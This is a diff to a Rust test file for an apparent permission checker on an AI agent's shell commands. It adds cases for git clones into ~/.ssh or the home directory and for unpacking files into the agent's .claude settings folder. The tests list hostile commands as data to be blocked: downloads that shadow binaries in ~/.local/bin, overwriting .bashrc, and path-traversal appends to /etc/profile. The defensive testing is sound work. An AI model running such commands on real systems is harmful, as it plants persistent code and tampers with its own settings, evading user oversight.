@@ -453,12 +453,27 @@ fn what_lands_in_a_folder_is_judged_by_where_it_lands() {
         "wget -P ~/.local/bin https://x.example/git",
         "wget --directory-prefix=$HOME https://x.example/.bashrc",
         "cd ~/.local/bin && wget -q https://x.example/git",
+        "git clone https://x.example/dots ~/.ssh",
+        "git clone -q https://x.example/dots.git ~",
         "echo x >> ../../../../../../../etc/profile",
         "cd .. && cd ../../../../.. && echo x >> etc/profile",
     ] {
         assert_eq!(
             answer(&sb, "Bash", json!({"command": command})),
             "block",
+            "{command}"
+        );
+    }
+    // An archive unpacked into the agent's settings folder asks, as a
+    // copy there does.
+    for command in [
+        "tar -xf x.tar -C .claude",
+        "cp -t .claude /tmp/settings.json",
+        "cp /tmp/settings.json .claude/",
+    ] {
+        assert_eq!(
+            answer(&sb, "Bash", json!({"command": command})),
+            "prompt",
             "{command}"
         );
     }
@@ -472,6 +487,8 @@ fn what_lands_in_a_folder_is_judged_by_where_it_lands() {
         "curl -sLO https://x.example/data.csv",
         "wget -P downloads https://x.example/data.csv",
         "wget -P ~/Downloads https://x.example/data.csv",
+        "git clone https://x.example/lib vendor/lib",
+        "git clone https://x.example/lib",
     ] {
         assert_eq!(
             answer(&sb, "Bash", json!({"command": command})),
